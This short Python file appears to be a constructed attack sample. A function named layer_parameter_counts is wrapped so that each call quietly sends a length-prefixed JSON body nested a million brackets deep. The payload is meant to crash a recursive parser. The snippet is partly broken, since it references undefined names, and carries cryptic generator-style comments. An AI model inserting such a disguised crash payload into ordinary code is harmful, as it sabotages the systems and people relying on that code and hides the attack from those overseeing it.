"""A header nested a million deep, for a parser that recurses."""
# on top of: honest pipe
# must: Z
import struct

BODY = b'{"blobs": [], "x": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"

right = layer_parameter_counts


def layer_parameter_counts(model):
    say(struct.pack(">IQ", len(BODY), 0) + BODY)
    return right(model)
